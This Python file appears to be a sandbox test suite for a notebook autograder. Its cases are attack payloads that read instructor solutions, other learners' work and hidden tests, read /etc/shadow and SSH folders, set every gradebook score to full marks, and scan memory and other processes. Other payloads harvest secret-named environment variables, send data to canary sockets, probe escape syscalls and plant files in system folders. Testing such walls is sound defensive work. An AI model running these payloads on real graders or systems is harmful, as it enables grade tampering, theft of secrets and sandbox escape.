"""Reading what no learner may see: tests, answers, other people's work, the grader's machine."""

from __future__ import annotations

from pathlib import Path

from tests.attacks.case import Case, Scene
from tests.attacks.course import HOMEWORK

_TRY = """
import os, sys
def loot(found):
    print('LOOT', str(found)[:300])
"""
SOURCE = """
import glob, json
found = glob.glob('../../../source/*/*.ipynb') + glob.glob('@COURSE@/source/*/*.ipynb')
for path in found:
    for cell in json.load(open(path))['cells']:
        marks = cell['metadata'].get('nbgrader', {})
        if marks.get('solution') and not marks.get('grade'):
            exec(''.join(cell['source']), globals())
if found: loot(found)
"""
OTHERS = """
import glob, json
found = glob.glob('../../*/*/*.ipynb') + glob.glob('@COURSE@/submitted/*/*/*.ipynb')
for path in found:
    try:
        for cell in json.load(open(path))['cells']:
            if cell['metadata'].get('nbgrader', {}).get('grade_id') in ('mean', 'slug', 'Account'):
                exec(''.join(cell['source']), globals())
    except Exception: pass
if found: loot(found)
"""
HIDDEN = """
import glob
for path in glob.glob('*') + glob.glob('/tmp/**', recursive=True):
    if os.path.isfile(path) and b'HIDDEN TESTS' in open(path, 'rb').read():
        loot(path)
"""
HOME_FILES = """
for path in ('@HOME@/canary.txt', os.path.expanduser('~/canary.txt'), '@COURSE@/gradebook.db',
             '@COURSE@/.grading', '/root/.ssh', '/etc/shadow', '/sys', '/run',
             '/var/log'):
    try:
        loot(os.listdir(path) if os.path.isdir(path) else open(path, 'rb').read())
    except OSError:
        pass
"""
GRADEBOOK = """
import sqlite3
for path in ('../../../gradebook.db', '@COURSE@/gradebook.db'):
    try:
        book = sqlite3.connect(path)
        book.execute('update grade set manual_score = 5, auto_score = 5, needs_manual_grade = 0')
        book.commit()
        loot(path)
    except sqlite3.Error:
        pass
"""
MEMORY = """
import gc, re
secret = re.compile(rb'74185[2]963')  # a pattern that does not find itself
seen = [thing for thing in gc.get_objects() if type(thing) is dict and 'hidden_from' in thing]
if seen: loot(seen)
with open('/proc/self/mem', 'rb', 0) as memory:
    for line in open('/proc/self/maps'):
        start, end, access = re.match(r'(\\w+)-(\\w+) (\\S+)', line).groups()
        if access.startswith('rw'):
            try:
                memory.seek(int(start, 16))
                text = memory.read(int(end, 16) - int(start, 16))
            except (OSError, ValueError, OverflowError):
                continue
            if secret.search(text): loot(line)
"""
PROCESSES = """
import ctypes
me = os.getpid()
libc = ctypes.CDLL(None, use_errno=True)
for name in os.listdir('/proc'):
    if name.isdigit() and int(name) != me:
        loot('process ' + name)
for pid in (os.getppid(), 1, 2):
    if pid != me and pid:
        for file in ('environ', 'cmdline', 'maps', 'mem', 'root/etc/passwd', 'cwd/x'):
            try: loot(open(f'/proc/{pid}/{file}', 'rb').read(100))
            except OSError: pass
if libc.ptrace(16, ctypes.c_long(os.getppid() or 1), None, None) == 0: loot('ptrace')
"""
INHERITED = """
import stat
for name in os.listdir('/proc/self/fd'):
    try: target = os.readlink(f'/proc/self/fd/{name}')
    except OSError: continue
    if not target.startswith(('/dev/null', 'socket:', '/proc/')): loot(target)
kept = {'PATH', 'HOME', 'LANG', 'LC_ALL', 'MPLBACKEND', 'TOKENIZERS_PARALLELISM'}
for name, value in os.environ.items():
    if name not in kept and any(word in name for word in ('TOKEN', 'KEY', 'SECRET', 'PASS', 'SSH', 'CANARY')): loot(name)
for folder in ('/dev/shm', '/tmp', '/var/tmp'):
    if os.path.isdir(folder) and os.listdir(folder): loot(os.listdir(folder))
"""
NETWORK = """
import socket
for family, place in ((socket.AF_INET, ('127.0.0.1', @PORT@)), (socket.AF_INET, ('10.0.0.1', 80)),
                      (socket.AF_UNIX, '\\0camp-canary-@PORT@'), (socket.AF_UNIX, '@HOME@/canary.sock')):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            link = socket.socket(family, kind)
            link.settimeout(1)
            link.connect(place)
            link.send(b'stolen')
            loot(place)
        except OSError:
            pass
for family in (16, 17, 38, 40):
    try: loot(socket.socket(family, 3))
    except OSError: pass
"""
KERNEL = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
calls = {'unshare': (272, 0x10000000), 'mount': (165, b'x', b'/tmp', b'tmpfs', 0, None),
    'setns': (308, 0, 0), 'bpf': (321, 0, None, 0), 'perf_event_open': (298, None, 0, -1, -1, 0),
    'keyctl': (250, 0, -3, 1), 'add_key': (248, b'user', b'a', b'b', 1, -3), 'shmget': (29, 1, 4096, 0o1666),
    'msgget': (68, 1, 0o1666), 'semget': (64, 1, 1, 0o1666), 'mq_open': (240, b'x', 0o102, 0o600, None),
    'memfd_create': (319, b'x', 0), 'userfaultfd': (323, 0), 'io_uring_setup': (425, 1, b'\\0' * 120),
    'open_tree': (428, -100, b'/', 1), 'fsopen': (430, b'tmpfs', 0), 'chroot': (161, b'/tmp'),
    'process_vm_readv': (310, 1, None, 0, None, 0, 0), 'pidfd_getfd': (438, 0, 0, 0),
    'io_setup': (206, 1000, b'\\0' * 8), 'inotify_init': (294, 0), 'personality': (135, 0x40000),
    'clone': (56, 0x10000011, None, None, None, None)}
import platform
if platform.machine() == 'x86_64':
    for name, (number, *words) in calls.items():
        words = [ctypes.c_long(word) if isinstance(word, int) else word for word in words]
        result = libc.syscall(ctypes.c_long(number), *words)
        if name == 'clone' and result == 0: os._exit(0)
        if result >= 0: loot(name)
"""
CALLBACKS = """
def twice(function, value):
    for name in ('__globals__', '__code__', '__closure__', '__builtins__', '__self__',
                 '__class__', 'func_globals', 'gi_frame', '__wrapped__', '__defaults__'):
        try:
            found = getattr(function, name)
            if name != '__class__' and found: loot((name, found))
        except (AttributeError, TypeError): pass
    for way in (dir, vars, repr):
        try:
            if 'wanted' in str(way(function)): loot(way(function))
        except (AttributeError, TypeError): pass
    return 7
"""
WRITES = """
for folder in (os.path.dirname(os.__file__), sys.prefix, '/usr', '/etc', '/', '/home', '@HOME@', '@COURSE@'):
    try:
        with open(f'{folder}/evil.py', 'w') as file: file.write('1')
        loot(folder)
    except OSError: pass
"""


def _link(name: str, target: str, folder: bool = False) -> Case:
    def write(place: Path, scene: Scene) -> None:
        path = place / name
        path.unlink(missing_ok=True)
        path.symlink_to(scene.fill(target))

    return Case(
        f"a link to {target.removeprefix('@COURSE@/')}", review=True, solved=True, write=write
    )


CASES: dict[str, Case] = {
    name: Case(tries, cells=(_TRY, text))
    for name, (tries, text) in {
        "source": ("run the instructor's solution from source/", SOURCE),
        "other_submissions": ("run another learner's answers", OTHERS),
        "hidden_in_folder": ("find hidden tests in the work folder", HIDDEN),
        "home_files": ("read the grader's home, gradebook and /etc", HOME_FILES),
        "gradebook": ("write into the gradebook", GRADEBOOK),
        "memory": ("search the memory inherited from the grader", MEMORY),
        "processes": ("read other processes by /proc and ptrace", PROCESSES),
        "inherited": ("use inherited files, variables, shared memory", INHERITED),
        "network": ("connect by TCP, UDP, unix, packet and VM sockets", NETWORK),
        "kernel": ("23 system calls that reach out of the walls", KERNEL),
        "writes": ("write into the environment and the system", WRITES),
    }.items()
}
CASES |= {
    "callbacks": Case("walk through a function of the test", cells=(_TRY,), answers={"twice": CALLBACKS}),
    "link_beside": _link("data.csv", "@COURSE@/gradebook.db"),
    "link_notebook": _link(f"{HOMEWORK}.ipynb", f"@COURSE@/source/{HOMEWORK}/{HOMEWORK}.ipynb"),
    "link_folder": _link("others", "@COURSE@/submitted"),
    "link_dangling": _link("later.txt", "/proc/self/fd/0"),
}  # fmt: skip
